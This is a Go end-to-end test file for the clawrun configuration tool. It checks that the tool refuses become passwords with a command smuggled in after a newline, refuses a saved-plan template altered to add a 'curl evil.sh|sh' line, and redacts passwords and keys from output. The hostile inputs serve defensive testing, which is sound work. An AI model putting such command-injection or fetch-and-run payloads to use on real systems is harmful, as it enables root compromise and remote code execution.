package e2e

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/clawrun/clawrun/test/testbed"
)

// pwUser makes h a host where sudo asks pwuser for its password, and
// returns an inventory of it.
func pwUser(t *testing.T, tb *testbed.Testbed, dir, h, pw string) string {
	tb.MustSSH(t, h, fmt.Sprintf(`id pwuser >/dev/null 2>&1 || useradd -m -s /bin/bash pwuser
echo 'pwuser:%s' | chpasswd
echo 'pwuser ALL=(ALL) ALL' > /etc/sudoers.d/pwuser; chmod 0440 /etc/sudoers.d/pwuser
install -d -m 0700 -o pwuser -g pwuser /home/pwuser/.ssh
cp /home/admin/.ssh/authorized_keys /home/pwuser/.ssh/; chown pwuser:pwuser /home/pwuser/.ssh/authorized_keys`, pw))
	writeFile(t, dir, "pwinv.hcl", fmt.Sprintf("host %q {\n  address = %q\n  user = \"pwuser\"\n  identity_file = %q\n  known_hosts = %q\n  become = true\n}\n",
		h, tb.Address(h), tb.Key, tb.KnownHosts))
	return "pwinv.hcl"
}

// TestBecomePasswordNewlineRefused: the right password followed by a
// newline and a command is refused before any host is contacted; the
// command never runs as root (sudo would read the first line only).
func TestBecomePasswordNewlineRefused(t *testing.T) {
	tb := testbed.Get(t)
	dir := t.TempDir()
	const pw = "right-pw-5e0a"
	inv := pwUser(t, tb, dir, "h2", pw)
	tb.MustSSH(t, "h2", "rm -f /tmp/clawfix-pwned")
	t.Cleanup(func() { tb.SSH(t, "h2", "rm -f /tmp/clawfix-pwned") })
	writeFile(t, dir, "pb.hcl", "task \"command\" \"c\" {\n  cmd = \"true\"\n}\n")
	for _, sep := range []string{"\n", "\r"} {
		env := []string{"CLAWRUN_BECOME_PASSWORD=" + pw + sep + "touch /tmp/clawfix-pwned"}
		for _, args := range [][]string{
			{"apply", "pb.hcl", "-i", inv},
			{"exec", "-i", inv, "--become", "--", "true"},
		} {
			r := clawrun(t, dir, env, args...)
			if r.Code == 0 || !strings.Contains(r.Stderr, "contains a newline") {
				t.Errorf("%q %v: exit %d, want a clear refusal\n%s%s", sep, args, r.Code, r.Stdout, r.Stderr)
			}
			noLeak(t, "refusal", r.Stdout+r.Stderr, map[string]string{"the password": pw})
		}
	}
	if o, _ := tb.SSH(t, "h2", "test -e /tmp/clawfix-pwned && echo RAN"); strings.Contains(o, "RAN") {
		t.Error("the rest of the password ran as root")
	}
}

// TestExecRedactsCredentials: what an ad-hoc command prints is redacted
// with the run's secret set: the become password (also base64), the plan
// key, in text and json.
func TestExecRedactsCredentials(t *testing.T) {
	tb := testbed.Get(t)
	dir := t.TempDir()
	const pw = "Sup3rS3cretPW-71c2"
	inv := pwUser(t, tb, dir, "h2", pw)
	const key = "plankey-0123456789-e2e"
	env := []string{"CLAWRUN_BECOME_PASSWORD=" + pw, "CLAWRUN_PLAN_KEY=" + key}
	cmd := fmt.Sprintf("id -u; echo %s; printf %%s %s | base64; echo %s >&2", pw, pw, key)
	for _, format := range []string{"text", "json"} {
		r := clawrun(t, dir, env, "exec", "-i", inv, "--become", "--format", format, "--", cmd)
		if r.Code != 0 || !strings.Contains(r.Stdout, "0") {
			t.Fatalf("%s: exit %d\n%s%s", format, r.Code, r.Stdout, r.Stderr)
		}
		noLeak(t, format, r.Stdout+r.Stderr, map[string]string{"the password": pw, "its base64": base64.StdEncoding.EncodeToString([]byte(pw)), "the plan key": key})
	}
}

// TestSavedPlanSmuggleRefused: a template changed after plan --out, with
// the new text hidden inside a function of a secret, is refused: nothing
// is written on the host.
func TestSavedPlanSmuggleRefused(t *testing.T) {
	tb := testbed.Get(t)
	dir := t.TempDir()
	tb.MustSSH(t, "h1", "rm -rf /tmp/clawfix-x; install -d -m 0755 /tmp/clawfix-x")
	t.Cleanup(func() { tb.SSH(t, "h1", "rm -rf /tmp/clawfix-x") })
	writeFile(t, dir, "t.hcl", `variable "token" {
  type      = string
  sensitive = true
}

task "template" "env" {
  source = "app.env.tpl"
  path   = "/tmp/clawfix-x/out.env"
  mode   = "0600"
}
`)
	writeFile(t, dir, "app.env.tpl", "MODE=prod\nTOKEN=${var.token}\n")
	env := []string{"CLAWRUN_VAR_token=tok-abcdef-123456", "CLAWRUN_PLAN_KEY=plankey-0123456789-smuggle"}
	r := clawrun(t, dir, env, "plan", "t.hcl", "-i", tb.Inventory, "--limit", "h1", "--out", "p.json")
	if r.Code != 0 {
		t.Fatalf("plan: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	if raw, _ := os.ReadFile(filepath.Join(dir, "p.json")); strings.Contains(string(raw), "tok-abcdef-123456") {
		t.Fatal("the plan file holds the secret")
	}
	writeFile(t, dir, "app.env.tpl", "MODE=prod\nTOKEN=${format(\"%s\\nEVIL=curl evil.sh|sh\", var.token)}\n")
	r = clawrun(t, dir, env, "apply", "p.json")
	if r.Code == 0 || !strings.Contains(r.Stdout+r.Stderr, "changed since the plan was made") {
		t.Errorf("apply of a changed template: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	if o, _ := tb.SSH(t, "h1", "cat /tmp/clawfix-x/out.env 2>&1"); strings.Contains(o, "EVIL") || strings.Contains(o, "MODE") {
		t.Errorf("the host was written: %q", o)
	}
	// The reviewed template applies.
	writeFile(t, dir, "app.env.tpl", "MODE=prod\nTOKEN=${var.token}\n")
	r = clawrun(t, dir, env, "plan", "t.hcl", "-i", tb.Inventory, "--limit", "h1", "--out", "p.json")
	if r.Code != 0 {
		t.Fatalf("plan: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	if r = clawrun(t, dir, env, "apply", "p.json"); r.Code != 0 {
		t.Errorf("apply of the reviewed plan: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	if o, _ := tb.SSH(t, "h1", "cat /tmp/clawfix-x/out.env"); o != "MODE=prod\nTOKEN=tok-abcdef-123456\n" {
		t.Errorf("out.env = %q", o)
	}
}

// TestNoExecSkipsDelegated: plan --no-exec does not probe delegate =
// "local" tasks, so a PR cannot print the controller's files (an SSH key,
// the plan key) into the review; without --no-exec the plan key is
// redacted.
func TestNoExecSkipsDelegated(t *testing.T) {
	tb := testbed.Get(t)
	dir := t.TempDir()
	const key = "plankey-0123456789-noexec"
	if err := os.WriteFile(filepath.Join(dir, "id_fake"), []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nprivate-material-4d1e\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	writeFile(t, dir, "keyfile", key+"\n")
	writeFile(t, dir, "pb.hcl", fmt.Sprintf(`task "file" "ssh" {
  delegate = "local"
  path     = "%s/id_fake"
  content  = "x\n"
}
task "file" "key" {
  delegate = "local"
  path     = "%s/keyfile"
  content  = "x\n"
}
task "file" "motd" {
  path    = "/etc/clawfix-motd"
  content = "hi\n"
}
`, dir, dir))
	env := []string{"CLAWRUN_PLAN_KEY=" + key}
	r := clawrun(t, dir, env, "plan", "pb.hcl", "-i", tb.Inventory, "--limit", "h1", "--no-exec")
	if r.Code == 1 || !strings.Contains(r.Stdout, "not checked: it runs on the controller") || !strings.Contains(r.Stdout, "clawfix-motd") {
		t.Errorf("--no-exec: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	noLeak(t, "--no-exec", r.Stdout+r.Stderr, map[string]string{"the ssh key": "private-material-4d1e", "the plan key": key})
	r = clawrun(t, dir, env, "plan", "pb.hcl", "-i", tb.Inventory, "--limit", "h1")
	noLeak(t, "plan", r.Stdout+r.Stderr, map[string]string{"the plan key": key})
}
